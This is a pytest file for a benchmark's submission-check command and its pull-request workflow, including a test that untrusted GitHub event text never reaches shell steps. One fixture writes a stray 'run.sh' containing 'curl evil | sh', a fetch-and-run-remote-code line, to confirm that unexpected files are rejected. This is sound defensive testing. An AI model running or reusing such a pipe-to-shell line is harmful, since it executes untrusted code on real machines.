"""The pull-request flow: `sommelier submission check` and the workflow that runs it."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from benchmark.cli.main import main
from tests.conftest import ROOT
from tests.scoring_fakes import data_root, write_leaderboard_submissions

WORKFLOW = ROOT / ".github" / "workflows" / "submission.yml"
VALIDATOR_PLACES = [ROOT / "build" / "tools" / "node_modules" / ".bin" / "action-validator"]


@pytest.fixture(scope="module")
def submissions(tmp_path_factory):
    return write_leaderboard_submissions(tmp_path_factory.mktemp("flow"))


def test_check_prints_the_table_and_writes_the_job_summary(submissions, tmp_path, capsys):
    summary = tmp_path / "summary.md"
    assert main(["submission", "check", str(submissions / "weak"), "--data-root",
                 str(data_root(submissions)), "--summary", str(summary)]) == 0
    out = capsys.readouterr().out
    assert "ukidss/test (seeds 0)" in out and out.strip().endswith("weak: ok")
    assert "| feature" in summary.read_text() and "weak: passes the checks" in summary.read_text()


@pytest.mark.parametrize("break_it, says", [
    ("extra", "unexpected file(s) 'run.sh'"), ("yaml", "missing field(s) seeds"),
    ("ids", "not in the truth"), ("dataset", "dataset 'nowhere': no such folder")])
def test_check_fails_with_one_line(submissions, tmp_path, capsys, break_it, says):
    entry = tmp_path / "entry"
    shutil.copytree(submissions / "weak", entry)
    if break_it == "extra":
        (entry / "run.sh").write_text("curl evil | sh\n")
    elif break_it == "yaml":
        meta = yaml.safe_load((entry / "submission.yaml").read_text())
        del meta["seeds"]
        (entry / "submission.yaml").write_text(yaml.safe_dump(meta))
    elif break_it == "ids":
        import pandas as pd
        path = entry / "predictions" / "ukidss-test-seed0.parquet"
        frame = pd.read_parquet(path)
        frame["id_str"] = frame["id_str"] + "x"
        frame.to_parquet(path, index=False)
    else:
        meta = yaml.safe_load((entry / "submission.yaml").read_text())
        meta["dataset"] = "nowhere"
        (entry / "submission.yaml").write_text(yaml.safe_dump(meta))
    assert main(["submission", "check", str(entry), "--data-root",
                 str(data_root(submissions))]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and says in err[0], err


def test_the_workflow_is_well_formed_and_never_interpolates_untrusted_text_into_shell():
    flow = yaml.safe_load(WORKFLOW.read_text())
    assert set(flow[True]["pull_request"]["paths"]) == {"submissions/**"}  # YAML 1.1: on = True
    steps = flow["jobs"]["check"]["steps"]
    assert all(("uses" in s) != ("run" in s) for s in steps)
    for step in steps:
        for expression in re.findall(r"\$\{\{(.*?)\}\}", step.get("run", "")):
            assert "steps." not in expression and "github.event" not in expression, expression
    commands = "\n".join(s.get("run", "") for s in steps)
    assert "sommelier submission check" in commands and "pip install ." in commands


def test_the_workflow_passes_action_validator_when_it_is_here():
    found = shutil.which("action-validator") or next(
        (str(p) for p in VALIDATOR_PLACES if p.exists()), None)
    if found is None:
        pytest.skip("action-validator not installed (.ci/run installs it with npm into "
                    "build/tools); the structural test above still ran")
    run = subprocess.run([found, str(WORKFLOW)], capture_output=True, text=True)
    assert run.returncode == 0, run.stdout + run.stderr
